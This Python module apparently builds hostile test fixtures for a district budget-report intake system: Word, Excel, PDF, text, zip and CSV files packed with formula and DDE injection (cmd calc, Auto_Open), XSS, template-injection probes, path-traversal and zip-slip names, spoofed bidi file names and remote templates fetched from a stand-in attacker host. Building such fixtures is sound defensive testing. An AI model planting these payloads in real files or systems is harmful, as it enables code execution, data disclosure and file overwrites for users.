"""A folder of submissions whose every text is written to do harm, in each format, and the roster beside it.

LIVE     what a text says to a spreadsheet, a browser, a template, a terminal, a file system
poison   the same into titles, unit names, cells, reasons and sentences of a report that is otherwise one of the district's
"""

from __future__ import annotations

import csv
import io
import random
import re
import zipfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from itertools import zip_longest
from pathlib import Path

from hostile.pages import ACTIVE, EVIL, GOOD, QUIET, pdf_of
from yueyang.department import Department
from yueyang.district import DEPARTMENTS
from yueyang.docx_writer import write_docx
from yueyang.form import form_blocks
from yueyang.grid import Block, Cell, Grid, Para
from yueyang.txt_writer import write_txt
from yueyang.xlsx_writer import write_xlsx

FIRST = (  # alive where they begin a text
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("{EVIL}/?x","局")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "＝1+1",
    "javascript:alert(1)",
    "external:..\\..\\x.docx",
    "CON",
    "aux.txt",
    "../../../../PWNED",
    "C:\\Windows\\PWNED",
    "\\\\evil.invalid\\c$\\x",
    "<r><t>活</t></r>",
)
ANYWHERE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "甲{{7*7}}乙{% raw %}{{ cycler.__init__.__globals__ }}",
    "{% for x in y %}",
    "局\u202egpj.exe\u2066x\u061c\u200b\ufeff",
    "局\x1b[31m\x07\x0b红\x9b",
    f"{EVIL}/x",
    "file:///etc/passwd",
    "]]>&#x3c;!ENTITY",
    "_x003D_1+1",
    "长" * 10_000,
)
LIVE = FIRST + ANYWHERE
NAMES = tuple(first + more for first, more in zip_longest(FIRST, ANYWHERE, fillvalue="局"))
_XML = re.compile("[\x00-\x08\x0b-\x1f]")
_BAD = [d for d in DEPARTMENTS if "honest" not in d.planted]


def poison(blocks: Sequence[Block], seed: int) -> list[Block]:
    """A live text at the end (sometimes at the start) of every wordy text."""
    chance = random.Random(seed)  # noqa: S311 - which text goes where guards nothing

    def spoil(text: str) -> str:
        if len(text) < 8 or re.search(r"\d", text):
            return text
        live = chance.choice(LIVE[:-1])
        return live + text if chance.random() < 0.2 else text + live

    def turn(block: Block) -> Block:
        if isinstance(block, Para):
            return replace(block, text=spoil(block.text)) if len(block.text) > 20 else block
        if isinstance(block, Grid):
            return replace(block, cells=tuple(_turn_cell(cell, spoil) for cell in block.cells))
        return block

    return [turn(block) for block in blocks]


def _turn_cell(cell: Cell, spoil: Callable[[str], str]) -> Cell:
    return replace(cell, text=spoil(cell.text))


def clean_for_xml(blocks: Sequence[Block]) -> list[Block]:
    """What XML cannot hold is not in it."""

    def turn(block: Block) -> Block:
        if isinstance(block, Para):
            return replace(block, text=_XML.sub("", block.text))
        if isinstance(block, Grid):
            return replace(block, cells=tuple(replace(c, text=_XML.sub("", c.text)) for c in block.cells))
        return block

    return [turn(block) for block in blocks]


def unit(number: int, name: str, code: str = "") -> Department:
    """A department of the district with errors, under another name."""
    base = _BAD[number % len(_BAD)]
    return replace(base, name=name, code=code or str(300_001 + number))


def write_folder(folder: Path) -> None:
    """The submissions: one of each name, odd file names, an archive, and what formats carry beside text."""
    folder.mkdir(parents=True)
    writers = (lambda b: write_docx(clean_for_xml(b)), write_txt, lambda b: write_xlsx(clean_for_xml(b)))
    suffixes = ("docx", "txt", "xlsx")
    for number, name in enumerate(NAMES):
        kind = number % 3
        shown = re.sub(r"[\r\n]", "", name)
        blocks = poison(form_blocks(unit(number, shown if kind == 1 else _XML.sub("", shown))), number)
        (folder / f"u{number:02}.{suffixes[kind]}").write_bytes(writers[kind](blocks))
    write_odd_names(folder)
    write_carriers(folder)


def write_odd_names(folder: Path) -> None:
    """File names, in the folder and in an archive."""
    for number, name in enumerate(["=1+1 <b>.txt", "-x'\"&;#%41.txt", "nl\nname\x1b[31m.txt", "局\u202etxt.exe.txt"]):
        (folder / name).write_bytes(write_txt(form_blocks(unit(30 + number, f"文件名{number}局"))))
    with zipfile.ZipFile(folder / "包'=1+1 [x].zip", "w") as archive:
        slips = ["../../PWNED.txt", "/etc/PWNED.txt", "C:\\PWNED.txt", "CON.txt"]
        for number, name in enumerate([*slips, "=cmd|<script>.txt", "x\u202e.txt"]):
            info = zipfile.ZipInfo(name)
            archive.writestr(info, write_txt(form_blocks(unit(40 + number, f"压缩{number}局"))))


def write_carriers(folder: Path) -> None:
    """What a format can carry beside its text."""
    plain = clean_for_xml(poison(form_blocks(unit(60, "载体一局")), 60))
    (folder / "载体.docx").write_bytes(with_word_actions(write_docx(plain)))
    book = write_xlsx(clean_for_xml(poison(form_blocks(unit(61, "载体二局")), 61)), sheets=["=1+1 <b>&{{7x7}}"])
    (folder / "载体.xlsx").write_bytes(with_sheet_actions(book))
    for number, extras in enumerate((ACTIVE, QUIET)):
        blocks = poison(form_blocks(unit(62 + number, f"载体{'三四'[number]}局=1+1<b>")), 62 + number)
        (folder / f"载体{number}.pdf").write_bytes(pdf_of(blocks, extras))


_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_FIELDS = (
    '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "><w:r><w:t>数</w:t></w:r>'
    '</w:fldSimple><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r>'
    f'<w:instrText>PICTURE "{EVIL}/a.png" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    '<w:r><w:t>图</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def edit_zip(data: bytes, changes: dict[str, Callable[[str], str]], added: dict[str, bytes]) -> bytes:
    """A package with parts changed and added."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        missing = set(changes)
        for info in source.infolist():
            content = source.read(info)
            if info.filename in changes:
                missing.discard(info.filename)
                content = changes[info.filename](content.decode()).encode()
            target.writestr(info, content)
        assert not missing, missing
        for name, content in added.items():
            target.writestr(name, content)
    return buffer.getvalue()


def relation(number: int, kind: str, target: str, *, outside: bool = True) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="h{number}" Type="{kind}" Target="{target}"{mode}/>'


def with_word_actions(data: bytes) -> bytes:
    """A macro project, DDE, remote template and pictures, links that run something."""
    links = (
        relation(1, f"{_OFFICE}/hyperlink", "javascript:alert(1)")
        + relation(2, f"{_OFFICE}/hyperlink", EVIL.replace("http", "file") + "/share/x")
        + relation(3, f"{_OFFICE}/image", f"{EVIL}/a.png")
        + relation(4, f"{_OFFICE}/attachedTemplate", f"{EVIL}/a.dotm")
        + relation(
            5, "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", outside=False
        )
        + relation(6, f"{_OFFICE}/hyperlink", f"{GOOD}/notice")
    )
    return edit_zip(
        data,
        {
            "word/document.xml": lambda text: text.replace("<w:sectPr", _FIELDS + "<w:sectPr", 1),
            "word/_rels/document.xml.rels": lambda text: text.replace("</Relationships>", links + "</Relationships>"),
            "docProps/core.xml": lambda text: text.replace(
                "</cp:coreProperties>", "<dc:title>=1+1{{7*7}}</dc:title></cp:coreProperties>"
            ),
        },
        {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 macro"},
    )


def with_sheet_actions(data: bytes) -> bytes:
    """Formulas with DDE, defined names, comments, links and a link to another workbook."""
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
        'ddeTopic="/C calc"/></externalLink>'
    )
    rels = "http://schemas.openxmlformats.org/package/2006/relationships"
    return edit_zip(
        data,
        {
            "xl/workbook.xml": lambda text: text.replace(
                "</sheets>",
                "</sheets><definedNames><definedName name=\"_xlnm.Auto_Open\">cmd|'/C calc'!A0</definedName>"
                '<definedName name="支出合计">=1+1</definedName></definedNames>',
            ),
            "xl/worksheets/sheet1.xml": lambda text: text.replace(
                "</sheetData>",
                '<row r="2000"><c r="A2000" t="str"><f>cmd|\'/C calc\'!A0</f><v>=cmd|calc</v></c></row></sheetData>'
                f'<hyperlinks><hyperlink ref="A1" r:id="h1" xmlns:r="{_OFFICE}"/></hyperlinks>',
            ).replace("<hyperlinks>", "<hyperlinks>", 1),
        },
        {
            "xl/externalLinks/externalLink1.xml": link.encode(),
            "xl/comments9.xml": b"<comments/>",
            "xl/worksheets/_rels/sheet1.xml.rels": (
                f'<Relationships xmlns="{rels}">'
                + relation(1, f"{_OFFICE}/hyperlink", "javascript:alert(1)")
                + "</Relationships>"
            ).encode(),
        },
    )


ROSTER_HEAD = "序号,归口股室,单位名称,预算编码,原编码,主管单位,组别,联系人,联系电话,应报日期,涉密"


def write_roster(path: Path) -> None:
    """Units that have reported and units that have not, every field alive."""
    with path.open("w", encoding="utf-8-sig", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(ROSTER_HEAD.split(","))
        for number, row in enumerate(_roster_rows(), 1):
            writer.writerow([number, *row])


def _roster_rows() -> Iterator[list[str]]:
    for number, name in enumerate(NAMES):
        section = LIVE[number % 12]
        yield [
            section,
            name[:300],
            str(300_001 + number),
            "",
            "",
            "=组",
            LIVE[number % 7],
            "0730-5550001",
            "2022-05-20",
            "",
        ]
    for number, name in enumerate(LIVE):
        yield ["-股", f"{name[:300]}缺报", str(900_001 + number), "", "", "", "+人", "0730-5550002", "2022-05-20", ""]
